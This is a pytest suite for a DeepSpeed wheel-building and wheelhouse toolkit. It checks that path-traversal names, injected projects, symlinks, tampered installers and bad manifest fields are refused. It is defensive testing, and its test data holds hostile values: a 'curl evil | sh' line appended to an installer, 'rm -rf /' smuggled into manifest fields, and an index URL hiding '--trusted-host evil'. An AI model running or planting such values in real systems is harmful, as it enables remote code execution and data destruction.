"""The hostile-input suite: every bad or hostile input is refused with one clear message and its exit
code, and leaves nothing half-written and nothing touched outside the toolkit's own folders.

Wheels here are FAKE (tests/fakes.py: zips with a valid build manifest, METADATA and a smoke
report); the integration tests run the same rules on real DeepSpeed wheels.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from fakes import METADATA, NAME, default_recipe_text, dep_wheel, fake_wheel

from builder import node
from builder.contracts import BuildManifest, SmokeReport
from builder.errors import PublishError, RecipeError, SmokeError, WheelhouseError
from builder.node import INSTALLER, InstallError, ManifestError, Node
from builder.recipe import load_recipe
from builder.smoke import load_report
from builder.wheelbuild.diagnose import find_failures
from builder.wheelbuild.ops import OpInfo
from builder.wheelhouse import installer, provision, prune, publish, repair, verify
from builder.wheelhouse.provision import installer_sha256
from builder.wheelhouse.upkeep import resign

ROOT = Path(__file__).resolve().parents[1]
DEFAULT_RECIPE = default_recipe_text()
AVX2 = frozenset({"sse4_2", "popcnt", "avx", "avx2", "fma", "bmi2"})
CPU_NODE = Node("cp311", "2.13.0+cpu", None, (), AVX2)


@pytest.fixture
def house(tmp_path: Path) -> Path:
    """A wheelhouse with one published FAKE wheel."""
    dist = tmp_path / "dist"
    dist.mkdir()
    target = tmp_path / "house"
    publish([fake_wheel(dist)], target)
    assert verify(target) == []
    return target


def edit_manifest(house: Path, change: Any) -> None:
    data = json.loads((house / "manifest.json").read_text())
    change(data)
    (house / "manifest.json").write_text(json.dumps(data))


def trusted() -> list[str]:
    """The node installer's --trust for the test host's key (the node installer has no default)."""
    from builder import signing

    return ["--trust", str(signing.keys().trust_file)]


def builder(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "builder", *args], cwd=cwd, capture_output=True, text=True, env=env)


# ---------------------------------------------------------------- names that are paths


def rename_entry(data: dict[str, Any], new: str) -> None:
    data["wheels"][new] = data["wheels"].pop(NAME)


def test_prune_never_deletes_outside_the_wheelhouse_for_a_dotdot_name(house: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.whl"
    victim.write_text("precious")
    edit_manifest(house, lambda d: rename_entry(d, "../victim.whl"))
    with pytest.raises(WheelhouseError, match=r"'\.\./victim\.whl' is not a wheel file name"):
        prune(house, [], keep=[])
    assert victim.read_text() == "precious"


def test_verify_reports_a_dotdot_name_without_a_traceback(house: Path) -> None:
    edit_manifest(house, lambda d: rename_entry(d, "../somewhere/file"))
    problems = verify(house)
    assert len(problems) == 1 and "'../somewhere/file' is not a wheel file name" in problems[0]


@pytest.mark.spawns
def test_verify_cli_exits_8_on_a_dotdot_name(house: Path) -> None:
    edit_manifest(house, lambda d: rename_entry(d, "../somewhere/file"))
    done = builder("verify", "--wheelhouse", str(house))
    assert done.returncode == 8 and "Traceback" not in done.stderr
    assert "is not a wheel file name" in done.stderr


@pytest.mark.parametrize(
    "bad", ["../x-1-py3-none-any.whl", "/etc/x-1-py3-none-any.whl", "a/b-1-py3-none-any.whl",
            ".hidden-1-py3-none-any.whl", "x-1-py3-none-any.whl\x00", "notawheel.tar.gz", "x..y-1-py3-none-any.whl",
            "x-1-py3-none-any"]
)  # fmt: skip
def test_only_wheel_file_names_are_accepted(bad: str) -> None:
    with pytest.raises(ManifestError, match="is not a wheel file name"):
        node.check_wheel_name(bad)


def test_install_refuses_a_served_manifest_with_a_path_for_a_name(house: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.whl"
    edit_manifest(house, lambda d: rename_entry(d, "../../outside.whl"))
    with pytest.raises(ManifestError, match="is not a wheel file name"):
        node.load_wheelhouse(str(house))
    assert not outside.exists()


def test_a_journal_naming_a_path_removes_nothing(house: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim-1-py3-none-any.whl"
    victim.write_text("precious")
    (house / ".publish-journal.json").write_text(json.dumps({"files": {"../victim-1-py3-none-any.whl": "0" * 64}}))
    repair(house)
    assert victim.read_text() == "precious"


# ---------------------------------------------------------------- injected files


def inject_project(house: Path) -> None:
    (house / "simple" / "evil").mkdir()
    (house / "simple" / "evil" / "index.html").write_text('<a href="../../evil-1.0-py3-none-any.whl">evil</a>')
    root = house / "simple" / "index.html"
    root.write_text(root.read_text().replace("</body>", '<a href="evil/">evil</a></body>'))
    (house / "evil-1.0-py3-none-any.whl").write_bytes(b"PK")


def test_verify_finds_a_project_injected_under_simple(house: Path) -> None:
    inject_project(house)
    problems = verify(house)
    assert "simple/index.html links 'evil/', a project manifest.json does not list" in problems
    assert "simple/evil: not a project manifest.json lists" in problems
    assert "evil-1.0-py3-none-any.whl: in the wheelhouse but not in manifest.json" in problems


def test_the_node_refuses_a_wheelhouse_with_an_injected_project(house: Path) -> None:
    inject_project(house)
    with pytest.raises(ManifestError, match="links projects the manifest does not list: evil/"):
        node.load_wheelhouse(str(house))


def test_verify_finds_a_link_out_of_the_wheelhouse(house: Path) -> None:
    page = house / "simple" / "deepspeed" / "index.html"
    page.write_text(page.read_text().replace("../../", "../../../"))
    assert any("points outside the wheelhouse" in p for p in verify(house))


def test_verify_finds_a_tampered_node_installer(house: Path) -> None:
    tool = house / INSTALLER
    tool.write_text(tool.read_text() + "\nimport os; os.system('curl evil | sh')\n")
    assert f"{INSTALLER}: sha256 differs from manifest.json (tampered or replaced)" in verify(house)
    with pytest.raises(WheelhouseError, match="differs from the sha256 in manifest.json"):
        installer_sha256(house)


def test_verify_finds_a_tool_nobody_published(house: Path) -> None:
    (house / "tools" / "helper.sh").write_text("echo hi")
    assert "tools/helper.sh: not in manifest.json" in verify(house)


@pytest.mark.spawns
def test_a_host_never_runs_a_tampered_installer(house: Path, tmp_path: Path) -> None:
    """The host script's fetch step, run for real: the installer is checked against the sha256 the
    (signature-checked) manifest lists; a changed installer is refused, not executed."""
    fetch = Path(provision.__file__).parents[1] / "resources" / "provision_fetch.py"
    installer_sha256(house)
    tool = house / INSTALLER
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        got = subprocess.run([sys.executable, fetch, "manifest", str(house), str(tmp_path / folder)], check=True)
        assert got.returncode == 0 and (tmp_path / folder / "manifest.json.sig").is_file()
    ok = subprocess.run([sys.executable, fetch, "installer", str(house), str(tmp_path / "a")], capture_output=True)
    assert ok.returncode == 0 and (tmp_path / "a" / "install.py").read_bytes() == tool.read_bytes()
    tool.write_bytes(tool.read_bytes() + b"\n# tampered\n")
    bad = subprocess.run([sys.executable, fetch, "installer", str(house), str(tmp_path / "b")], capture_output=True,
                         text=True)  # fmt: skip
    assert bad.returncode == 8 and "not the installer the signed manifest lists" in bad.stderr
    assert not (tmp_path / "b" / "install.py").exists()


# ---------------------------------------------------------------- manifest fields vs the wheel


def test_an_edited_torch_field_is_caught_by_verify_and_by_the_node(house: Path) -> None:
    """Issue 20, "manifest vs its own file name": an entry whose torch contradicts the wheel's name
    (+cpu.torch2.13) is tampering (exit 8) before any node is compared with it (no fit: exit 9)."""

    def retarget(d: dict[str, Any]) -> None:
        d["wheels"][NAME]["torch"] = "2.14.1+cu130"

    edit_manifest(house, retarget)
    assert any("field 'torch' is '2.14.1+cu130' but the file name says torch 2.13" in p for p in verify(house))
    with pytest.raises(ManifestError, match="field 'torch' is '2.14.1\\+cu130' but the file name says torch 2.13"):
        node.load_wheelhouse(str(house))
    assert ManifestError.exit_code == 8


@pytest.mark.parametrize(
    ("field", "value", "complaint"),
    [("accelerator", "cuda", "field 'accelerator' is 'cuda' but the file name says"),
     ("torch", "2.12.0+cpu", "field 'torch' is '2.12.0+cpu' but the file name says torch 2.13")],
)  # fmt: skip
@pytest.mark.spawns
def test_a_field_contradicting_the_file_name_exits_8_not_9(house: Path, field: str, value: str, complaint: str) -> None:
    """The installer's CLI on a node whose torch the lie would rule out: tampering, exit 8."""
    edit_manifest(house, lambda d: d["wheels"][NAME].__setitem__(field, value))
    done = builder("install", "--wheelhouse", str(house), "--dry-run", "--skip-signature-check")
    assert done.returncode == 8, done.stderr
    assert complaint in done.stderr and "Traceback" not in done.stderr


@pytest.mark.parametrize(
    ("field", "value"), [("cpu_target", "x86-64"), ("ops", ["cpu_adam", "cpu_lion"]), ("archs", ["9.0"])]
)
def test_every_repeated_field_is_checked_against_the_wheel(house: Path, field: str, value: object) -> None:
    edit_manifest(house, lambda d: d["wheels"][NAME].__setitem__(field, value))
    assert any(p.startswith(f"{NAME}: {field}: manifest says") for p in verify(house))


def test_an_edited_smoke_result_is_caught(house: Path) -> None:
    edit_manifest(house, lambda d: d["wheels"][NAME]["smoke"]["checks"].__setitem__(
        "numerics:cpu_adam", {"status": "passed", "detail": "made up"}))  # fmt: skip
    assert f"{NAME}: the smoke result in manifest.json differs from {NAME}.smoke.json" in verify(house)


@pytest.mark.parametrize(
    ("path", "value", "complaint"),
    [
        (("accelerator",), "gpu", "'accelerator' is 'gpu', not one of cpu, cuda"),
        (("cpu_target",), "native; rm -rf /", "'cpu_target' is 'native; rm -rf /'"),
        (("archs",), "9.0", "'archs' has the wrong type"),
        (("archs",), ["sm_99; x"], "'archs' holds an invalid item"),
        (("sha256",), "xyz", "'sha256' is not valid"),
        (("python_tag",), "cp312", "'python_tag' is 'cp312' but the file name says 'cp311'"),
        (("smoke", "passed"), "yes", "'passed' has the wrong type"),
    ],
)
def test_bad_manifest_fields_are_named(house: Path, path: tuple[str, ...], value: object, complaint: str) -> None:
    def change(d: dict[str, Any]) -> None:
        target = d["wheels"][NAME]
        for key in path[:-1]:
            target = target[key]
        target[path[-1]] = value

    edit_manifest(house, change)
    with pytest.raises(ManifestError) as err:
        node.load_wheelhouse(str(house))
    assert complaint in err.value.message and "manifest.json" in err.value.message


@pytest.mark.parametrize("text", ["{not json", "[]", '{"schema": 99, "wheels": {}}', b"\xff\xfe"])
def test_a_manifest_that_is_not_one_is_refused_everywhere(house: Path, tmp_path: Path, text: str | bytes) -> None:
    path = house / "manifest.json"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    assert len(verify(house)) == 1
    with pytest.raises(ManifestError):
        node.load_wheelhouse(str(house))
    with pytest.raises(WheelhouseError):
        publish([fake_wheel(tmp_path / "dist", name=NAME.replace("0.19.8", "0.19.9"))], house)
    assert path.read_bytes() == (text if isinstance(text, bytes) else text.encode())  # not overwritten


def test_a_smoke_report_that_is_not_json_is_a_clear_error(tmp_path: Path) -> None:
    wheel = fake_wheel(tmp_path)
    (tmp_path / f"{NAME}.smoke.json").write_text("{oops")
    with pytest.raises(SmokeError, match="smoke.json is not valid JSON"):
        load_report(wheel)


def test_a_smoke_report_claiming_a_pass_its_checks_deny_is_refused(tmp_path: Path) -> None:
    wheel = fake_wheel(tmp_path)
    path = tmp_path / f"{NAME}.smoke.json"
    data = json.loads(path.read_text())
    data["checks"].append({"name": "numerics:cpu_adam", "status": "failed", "detail": "off by 1"})
    path.write_text(json.dumps(data))
    with pytest.raises(SmokeError, match="'passed' is True, but its checks say False"):
        load_report(wheel)
    with pytest.raises(SmokeError):
        publish([wheel], tmp_path / "house")
    assert not (tmp_path / "house").exists()


def test_a_report_for_other_bytes_is_refused(tmp_path: Path) -> None:
    wheel = fake_wheel(tmp_path)
    report = SmokeReport.from_json((tmp_path / f"{NAME}.smoke.json").read_text(), "r")
    with zipfile.ZipFile(wheel, "a") as zf:
        zf.writestr("deepspeed/extra", b"changed")
    assert report.sha256 != hashlib.sha256(wheel.read_bytes()).hexdigest()
    with pytest.raises(PublishError, match="changed after it was smoke-tested"):
        publish([wheel], tmp_path / "house")


CPU_TORCH_FIELDS = {"version": "2.13.0+cpu", "cuda": None}


@pytest.mark.parametrize(
    ("torch", "complaint"),
    [
        (
            {"version": "2.13.0+cpu", "cuda": None, "index": "https://x/simple --trusted-host evil"},
            "'index' is not valid",
        ),
        ({"version": "2.13.0+cpu", "cuda": None, "index": "ftp://mirror/whl/cpu"}, "'index' is not valid"),
        ({"version": "2.13.0+cpu", "cuda": None, "variant": "cpu; rm -rf /"}, "'variant' is not valid"),
        ({"version": "2.13.0+cpu", "cuda": None, "variant": 130}, "'variant' has the wrong type"),
    ],
)
def test_a_build_manifests_torch_build_is_checked_before_the_smoke_installs_from_it(
    tmp_path: Path, torch: dict[str, object], complaint: str
) -> None:
    """The smoke installs torch's build from the index the build manifest names: an index that is
    not a URL (an installer option hidden in it) or a variant that is no build name is refused."""
    with pytest.raises(ManifestError, match=complaint):
        BuildManifest.from_wheel(fake_wheel(tmp_path, torch=torch))
    named = {**CPU_TORCH_FIELDS, "variant": "cpu", "index": "file:///srv/whl/cpu"}
    good = BuildManifest.from_wheel(fake_wheel(tmp_path, torch=named))
    assert (good.torch_variant, good.torch_index) == ("cpu", "file:///srv/whl/cpu")


def test_a_wheel_without_a_valid_build_manifest_is_refused(tmp_path: Path) -> None:
    wheel = fake_wheel(tmp_path, cpu_target="x86-64-v9")
    with pytest.raises(ManifestError, match="'cpu_target' is 'x86-64-v9'"):
        BuildManifest.from_wheel(wheel)
    with pytest.raises(PublishError, match="cpu_target"):
        publish([wheel], tmp_path / "house")


def test_publishing_a_path_that_does_not_exist_says_so(tmp_path: Path) -> None:
    with pytest.raises(PublishError, match="no such wheel: .*missing.whl"):
        publish([tmp_path / "missing.whl"], tmp_path / "house")
    assert not (tmp_path / "house").exists()


# ---------------------------------------------------------------- downloads and hashes on the node


def test_install_dry_run_checks_the_chosen_wheels_hash(house: Path, tmp_path: Path) -> None:
    data = (house / NAME).read_bytes()
    (house / NAME).write_bytes(data[:-8] + b"tampered")  # the same size, other bytes
    manifest = node.load_wheelhouse(str(house))
    with pytest.raises(ManifestError, match="has sha256 .* the manifest says"):
        node.checked_wheel(str(house), node.choose(manifest, CPU_NODE), str(tmp_path))


def test_a_wheel_longer_than_its_signed_size_is_cut_off_there(house: Path, tmp_path: Path) -> None:
    """The signed manifest gives each wheel's size: a longer file is refused once past it, and verify
    names both sizes."""
    size = (house / NAME).stat().st_size
    manifest = node.load_wheelhouse(str(house))
    assert manifest.wheels[NAME].size == size
    assert all(dep.size == (house / name).stat().st_size for name, dep in manifest.dependencies.items())
    (house / NAME).write_bytes((house / NAME).read_bytes() + b"tampered")
    with pytest.raises(ManifestError, match=f"is longer than the {size} bytes the signed manifest gives it"):
        node.checked_wheel(str(house), node.choose(manifest, CPU_NODE), str(tmp_path))
    assert f"{NAME}: {size + 8} bytes, manifest.json says {size} (tampered or replaced)" in verify(house)


@pytest.mark.parametrize("size", [0, -1, True, "12", 1.5, 5 << 30, 10**80])
def test_a_manifest_size_that_is_no_size_is_refused(house: Path, size: object) -> None:
    data = json.loads((house / "manifest.json").read_text())
    data["wheels"][NAME]["size"] = size
    with pytest.raises(ManifestError, match="field 'size' (has the wrong type|is .*not a size from 1 to)"):
        node.parse_manifest(json.dumps(data))


def test_a_missing_wheel_is_a_clear_install_error(house: Path, tmp_path: Path) -> None:
    (house / NAME).unlink()
    entry = node.choose(node.load_wheelhouse(str(house)), CPU_NODE)
    with pytest.raises(InstallError, match=f"cannot read .*{re.escape(NAME)}: No such file"):
        node.checked_wheel(str(house), entry, str(tmp_path))


def test_a_404_from_a_served_wheelhouse_is_a_clear_install_error(house: Path, tmp_path: Path) -> None:
    import functools
    import http.server
    import threading

    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(house))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        base = node.wheelhouse_base(f"http://127.0.0.1:{server.server_address[1]}")
        manifest = node.load_wheelhouse(base)
        (house / NAME).unlink()
        with pytest.raises(InstallError, match="HTTP 404"):
            node.checked_wheel(base, node.choose(manifest, CPU_NODE), str(tmp_path))
    finally:
        server.shutdown()
        server.server_close()


def test_file_urls_are_accepted(house: Path) -> None:
    assert node.wheelhouse_base(house.as_uri()) == str(house)
    assert node.load_wheelhouse(node.wheelhouse_base(house.as_uri() + "/")).wheels
    with pytest.raises(InstallError, match="must name a local folder"):
        node.wheelhouse_base("file://otherhost/x")
    with pytest.raises(InstallError, match="unsupported scheme ftp"):
        node.wheelhouse_base("ftp://host/x")


# ---------------------------------------------------------------- -march=native


def native(flags: list[str]) -> node.WheelEntry:
    base = _CPU_ENTRY.to_json()
    base.update(cpu_target="native", cpu_flags=flags)
    return node.parse_wheel_entry(NAME, base, "test")


_CPU_ENTRY = node.parse_wheel_entry(
    NAME,
    {"sha256": "0" * 64, "version": "0.19.8+cpu.torch2.13", "recipe": "cpu", "accelerator": "cpu",
     "python_tag": "cp311", "torch": "2.13.0+cpu", "cuda": None, "archs": [], "cpu_target": "x86-64-v3",
     "ops": ["cpu_adam"], "smoke": {"passed": True, "finished_at": "", "checks": {"i": {"status": "passed",
     "detail": ""}}}},
    "test",
)  # fmt: skip


def test_a_native_wheel_fits_only_a_node_with_every_build_host_flag() -> None:
    built_on = ["avx2", "avx512f", "fma", "sse4_2"]
    assert node.mismatches(native(built_on), Node("cp311", None, None, (), frozenset(built_on) | {"x"})) == []
    why = node.mismatches(native(built_on), Node("cp311", None, None, (), AVX2))
    assert why == ["CPU ops built with -march=native on a CPU with avx512f, which this node lacks"]


def test_a_native_wheel_without_recorded_flags_fits_no_node() -> None:
    assert "flags were not recorded" in node.mismatches(native([]), Node("cp311", None, None, (), AVX2))[0]
    assert "node's CPU flags are unknown" in node.mismatches(native(["avx2"]), Node("cp311", None, None, ()))[0]


# ---------------------------------------------------------------- permissions and interrupted publishes


def test_published_files_are_world_readable_whatever_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o077)
    try:
        (tmp_path / "dist").mkdir()
        house = tmp_path / "house"
        publish([fake_wheel(tmp_path / "dist")], house)
    finally:
        os.umask(old)
    for path in [house, *house.rglob("*")]:
        if path.name == ".publish.lock":
            continue
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o755 if path.is_dir() else 0o644), (path, oct(mode))


SYSTEM_PYTHON = shutil.which("python3", path="/usr/bin:/bin")


@pytest.mark.spawns
@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("runuser"), reason="needs root and runuser to become nobody")
@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="needs a system python3 that user nobody may run")
def test_an_unprivileged_user_can_read_and_check_the_wheelhouse(tmp_path: Path) -> None:
    """Published under umask 077 by root; user nobody reads every file and runs the published
    installer's checks (the standalone copy from tools/, as a node would) on it."""
    shared = Path("/tmp") / f"shared-wheelhouse-{os.getpid()}"
    shutil.rmtree(shared, ignore_errors=True)
    shared.mkdir(mode=0o755)
    os.chmod(shared, 0o755)
    try:
        old = os.umask(0o077)
        try:
            (tmp_path / "dist").mkdir()
            publish([fake_wheel(tmp_path / "dist")], shared / "house")
        finally:
            os.umask(old)
        script = (
            "import importlib.util, pathlib, sys\n"
            "h = pathlib.Path(sys.argv[1])\n"
            "for p in h.rglob('*'):\n"
            "    p.is_file() and p.name != '.publish.lock' and p.read_bytes()\n"
            "spec = importlib.util.spec_from_file_location('n', h / 'tools' / 'ds-node-install.py')\n"
            "node = importlib.util.module_from_spec(spec); sys.modules['n'] = node; spec.loader.exec_module(node)\n"
            "m = node.load_wheelhouse(str(h))\n"
            "import tempfile\n"
            "node.checked_wheel(str(h), next(iter(m.wheels.values())), tempfile.mkdtemp())\n"
            "print('read', len(m.wheels))\n"
        )
        done = subprocess.run(
            ["runuser", "-u", "nobody", "--", str(SYSTEM_PYTHON), "-c", script, str(shared / "house")],
            capture_output=True, text=True, cwd="/",
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert done.stdout.strip() == "read 1"
    finally:
        shutil.rmtree(shared, ignore_errors=True)


def test_leftovers_of_a_killed_publish_are_reported_and_only_ours_removed(house: Path, tmp_path: Path) -> None:
    # What a publish killed after copying its wheel leaves: the journal, the wheel, a temp file.
    killed = fake_wheel(tmp_path / "dist", name=NAME.replace("0.19.8", "0.19.9"), payload=b"k")
    shutil.copyfile(killed, house / killed.name)
    digest = hashlib.sha256(killed.read_bytes()).hexdigest()
    (house / ".publish-journal.json").write_text(json.dumps({"files": {killed.name: digest}}))
    (house / ".manifest.json.abc123xy.tmp").write_text("{half")
    foreign = house / "someone-else-1.0-py3-none-any.whl"
    foreign.write_bytes(b"theirs")
    problems = verify(house)
    assert ".publish-journal.json: left by an interrupted publish (run `python -m builder repair` to remove it)" in (
        problems
    )
    assert ".manifest.json.abc123xy.tmp: left by an interrupted publish" in " ".join(problems)
    assert f"{killed.name}: in the wheelhouse but not in manifest.json" in problems
    removed = repair(house)
    assert sorted(removed) == sorted([killed.name, ".manifest.json.abc123xy.tmp", ".publish-journal.json"])
    assert foreign.read_bytes() == b"theirs"  # not ours: reported, never deleted
    assert verify(house) == ["someone-else-1.0-py3-none-any.whl: in the wheelhouse but not in manifest.json"]


@pytest.mark.parametrize("where", ["missing", "empty", "file"])
def test_verify_fails_on_a_missing_or_empty_wheelhouse(tmp_path: Path, where: str) -> None:
    target = tmp_path / "house"
    if where == "empty":
        target.mkdir()
    elif where == "file":
        target.write_text("x")
    assert verify(target) != []


def test_verify_fails_on_a_wheelhouse_whose_every_wheel_was_pruned(house: Path) -> None:
    prune(house, [], keep=[], remove_all=True)
    assert verify(house) == ["manifest.json lists no DeepSpeed wheel: the wheelhouse is empty"]


# ---------------------------------------------------------------- the dependency closure


def test_the_closure_is_fetched_hash_listed_and_indexed(tmp_path: Path) -> None:
    """The fetcher is FAKE (no index here); it stands for pip download of DeepSpeed's requirements."""
    metadata = "Metadata-Version: 2.1\nName: deepspeed\nVersion: 0.19.8\nRequires-Dist: torch==2.13.0\n" \
        "Requires-Dist: hjson\nRequires-Dist: pydantic>=2\nRequires-Dist: wandb; extra == \"all\"\n"  # fmt: skip
    asked: list[list[str]] = []

    def fetcher(reqs: Any, tag: str, dest: Path, log: Any) -> list[Path]:
        asked.append(list(reqs))
        return [dep_wheel(dest, "hjson", "3.1.0"), dep_wheel(dest, "pydantic", "2.14.3")]

    (tmp_path / "dist").mkdir()
    target = tmp_path / "house"
    publish([fake_wheel(tmp_path / "dist", metadata=metadata)], target, fetch_closure=fetcher)
    assert asked == [["hjson", "pydantic>=2"]]  # no torch, no extras
    assert verify(target) == []
    assert "hjson-3.1.0-py3-none-any.whl#sha256=" in (target / "simple" / "hjson" / "index.html").read_text()
    (target / "hjson-3.1.0-py3-none-any.whl").write_bytes(b"evil")
    assert "hjson-3.1.0-py3-none-any.whl: 4 bytes, manifest.json says 916 (tampered or replaced)" in verify(target)


# ---------------------------------------------------------------- recipes and commands


@pytest.mark.spawns
def test_a_recipe_that_is_not_utf8_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "latin1.toml"
    path.write_bytes(DEFAULT_RECIPE.replace('name = "cpu"', 'name = "cpu" # caf\xe9').encode("latin-1"))
    done = builder("build-wheel", "--recipe", str(path), "--work-dir", str(tmp_path / "w"))
    assert done.returncode == 2 and "is not UTF-8 text" in done.stderr and "Traceback" not in done.stderr
    assert not (tmp_path / "w").exists()


def test_an_arch_no_gpu_has_is_refused_at_load(tmp_path: Path) -> None:
    path = tmp_path / "r.toml"
    path.write_text(DEFAULT_RECIPE.replace('accelerator = "cpu"', 'accelerator = "cuda"\narch = ["sm_99"]'))
    with pytest.raises(RecipeError, match='arch "sm_99" is not a CUDA architecture'):
        load_recipe(path)


@pytest.mark.spawns
def test_an_unwritable_work_dir_says_which_option_moves_it(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    done = builder("build-wheel", "--work-dir", str(blocker / "work"))
    assert done.returncode == 10, done.stderr
    assert "is a file, not a folder" in done.stderr and "--work-dir" in done.stderr and "Traceback" not in done.stderr


@pytest.mark.spawns
def test_an_unwritable_wheelhouse_is_refused_before_building(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    done = builder("build-wheel", "--work-dir", str(tmp_path / "w"), "--wheelhouse", str(blocker / "house"))
    assert done.returncode == 10 and "--wheelhouse" in done.stderr
    assert "pip" not in done.stderr  # nothing was fetched or built


@pytest.mark.spawns
def test_serve_on_a_busy_port_says_so(house: Path) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        done = builder("serve", "--wheelhouse", str(house), "--port", str(port))
    assert done.returncode == 3 and f"cannot listen on 127.0.0.1:{port}" in done.stderr and "--port" in done.stderr


@pytest.mark.integration
def test_a_deepspeed_version_that_does_not_exist_exits_4(tmp_path: Path) -> None:
    path = tmp_path / "r.toml"
    path.write_text(DEFAULT_RECIPE.replace('version = "0.19.8"', 'version = "0.0.999"'))
    done = builder("build-wheel", "--recipe", str(path), "--work-dir", str(tmp_path / "w"))
    assert done.returncode == 4, done.stderr[-2000:]
    assert "pip could not download the DeepSpeed sdist deepspeed==0.0.999" in done.stderr


# ---------------------------------------------------------------- compile failures

# As DeepSpeed 0.19.8's fp_quantizer build with nvcc 13.0 printed it here (through pip -v, so indented;
# trimmed), with a second extension building beside it.
FP_QUANTIZER_LOG = """\
  running build_ext
  building 'deepspeed.ops.fp_quantizer.fp_quantizer_op' extension
  building 'deepspeed.ops.adam.cpu_adam_op' extension
  [1/2] /usr/local/cuda-13.0/bin/nvcc -MD -MF /w/src/build/temp.linux-x86_64-cpython-311/csrc/fp_quantizer/fp_quantize_impl.o.d
  FAILED: [code=255] /w/src/build/temp.linux-x86_64-cpython-311/csrc/fp_quantizer/fp_quantize_impl.o
  /usr/local/cuda-13.0/bin/nvcc -MD -MF /w/src/build/temp.linux-x86_64-cpython-311/csrc/fp_quantizer/fp_quantize_impl.o.d
  /w/src/csrc/includes/reduction_utils.h(820): warning #1866-D: attribute does not apply to any entity
  /w/src/csrc/fp_quantizer/fp_quantize_impl.cu(234): error: template parameter "q_exponent_bits" may not be redeclared in this scope
        constexpr int q_exponent_bits = total_q_bits - mantisa_bits - 1;
  /w/src/csrc/fp_quantizer/fp_quantize_impl.cu(413): error: template parameter "q_exponent_bits" may not be redeclared in this scope
  2 errors detected in the compilation of "/w/src/csrc/fp_quantizer/fp_quantize_impl.cu".
  [2/2] c++ -MMD -MF /w/src/build/temp.linux-x86_64-cpython-311/3f2a/csrc/adam/cpu_adam.o.d -c /w/src/csrc/adam/cpu_adam.cpp
  ninja: build stopped: subcommand failed.
"""  # noqa: E501


def test_a_compile_failure_names_the_op_and_quotes_the_compiler() -> None:
    ops = [
        OpInfo("cpu_adam", "DS_BUILD_CPU_ADAM", "deepspeed.ops.adam.cpu_adam_op", True,
               sources=("csrc/adam/cpu_adam.cpp",)),
        OpInfo("fp_quantizer", "DS_BUILD_FP_QUANTIZER", "deepspeed.ops.fp_quantizer_op", True, device_code=True,
               sources=("csrc/fp_quantizer/fp_quantize.cpp", "csrc/fp_quantizer/fp_quantize_impl.cu")),
    ]  # fmt: skip
    (failure,) = find_failures(FP_QUANTIZER_LOG, ops)
    assert failure.op == "fp_quantizer"
    assert failure.files == ("csrc/fp_quantizer/fp_quantize_impl.o",)
    text = failure.describe()
    assert text.startswith("op fp_quantizer failed to compile (csrc/fp_quantizer/fp_quantize_impl.o):")
    assert 'fp_quantize_impl.cu(234): error: template parameter "q_exponent_bits" may not be redeclared' in text
    assert "fp_quantize_impl.cu(413)" in text


def test_a_gcc_error_in_a_header_is_pinned_on_the_failing_op() -> None:
    log = (
        "FAILED: /w/build/temp/abc/csrc/adam/cpu_adam.o\n"
        "In file included from /w/src/csrc/adam/cpu_adam.cpp:6:\n"
        "/w/src/csrc/includes/cpu_adam.h:12:10: fatal error: cusparse.h: No such file or directory\n"
    )
    ops = [OpInfo("cpu_adam", "X", "deepspeed.ops.adam.cpu_adam_op", True, sources=("csrc/adam/cpu_adam.cpp",))]
    (failure,) = find_failures(log, ops)
    assert failure.op == "cpu_adam" and "cusparse.h: No such file or directory" in failure.errors[0]


@pytest.mark.parametrize("link", [".publish.lock", "simple", "tools", "simple/deepspeed"])
def test_a_symlink_in_the_wheelhouse_is_never_written_through(house: Path, tmp_path: Path, link: str) -> None:
    """A lock file linked to /etc/passwd would be truncated by the lock; a linked folder written into."""
    victim_dir = tmp_path / "victim"
    victim_dir.mkdir()
    victim = victim_dir / "index.html"
    victim.write_text("precious")
    target = house / link
    if target.is_dir():
        shutil.rmtree(target)
        target.symlink_to(victim_dir, target_is_directory=True)
    else:
        target.unlink(missing_ok=True)
        target.symlink_to(victim)
    assert f"{link}: a symlink where the toolkit writes" in verify(house)
    with pytest.raises(WheelhouseError, match="holds symlinks where the toolkit writes"):
        publish([fake_wheel(tmp_path / "dist", name=NAME.replace("0.19.8", "0.19.9"))], house)
    with pytest.raises(WheelhouseError, match="holds symlinks"):
        prune(house, [], keep=[])
    assert victim.read_text() == "precious" and sorted(p.name for p in victim_dir.iterdir()) == ["index.html"]


@pytest.mark.spawns
def test_install_dry_run_json_and_its_exit_codes(house: Path) -> None:
    """The node installer's own CLI on this machine (torch CPU): a fit, then a tampered wheel (exit 8)."""
    done = builder("install", "--wheelhouse", house.as_uri(), "--dry-run", "--json")
    if done.returncode == 9:
        pytest.skip(f"this machine is not a node the FAKE CPU wheel fits: {done.stderr[-300:]}")
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["wheel"] == NAME and result["installed"] is False and result["node"]["python_tag"] == "cp311"
    (house / NAME).write_bytes((house / NAME).read_bytes()[:-1] + b"x")  # its size, other bytes
    bad = builder("install", "--wheelhouse", str(house), "--dry-run", "--json")
    assert bad.returncode == 8 and "Traceback" not in bad.stderr
    assert json.loads(bad.stdout)["exit_code"] == 8 and "has sha256" in json.loads(bad.stdout)["error"]


# ================================================================ issue 20: the second round
# Each test below names the case of issue 20 it covers:
